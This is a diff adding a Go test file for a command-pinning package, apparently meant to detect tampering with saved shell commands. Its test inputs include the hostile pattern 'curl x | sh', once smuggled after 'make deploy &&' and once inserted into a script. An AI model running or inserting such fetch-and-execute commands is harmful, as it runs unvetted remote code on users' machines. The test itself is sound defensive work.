@@ -0,0 +1,45 @@
+package test
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/mini-page/sniprun/internal/pin"
+)
+
+func TestPinRoundTrip(t *testing.T) {
+	dir := t.TempDir()
+
+	pins, err := pin.Load(dir)
+	if err != nil || len(pins) != 0 {
+		t.Fatalf("expected no pins, got %v, %v", pins, err)
+	}
+
+	pins["deploy"] = pin.New("make deploy")
+	if err := pin.Save(dir, pins); err != nil {
+		t.Fatal(err)
+	}
+
+	loaded, err := pin.Load(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := loaded["deploy"]
+	if p == nil || !p.Matches("make deploy") || p.Matches("make deploy && curl x | sh") {
+		t.Errorf("pin does not match its command: %+v", p)
+	}
+}
+
+func TestPinDiff(t *testing.T) {
+	got := pin.Diff("cd app\nmake build\nmake test", "cd app\nmake build\ncurl x | sh\nmake test")
+	want := []string{"  cd app", "  make build", "+ curl x | sh", "  make test"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("expected %q, got %q", want, got)
+	}
+
+	got = pin.Diff("echo one", "echo two")
+	want = []string{"- echo one", "+ echo two"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("expected %q, got %q", want, got)
+	}
+}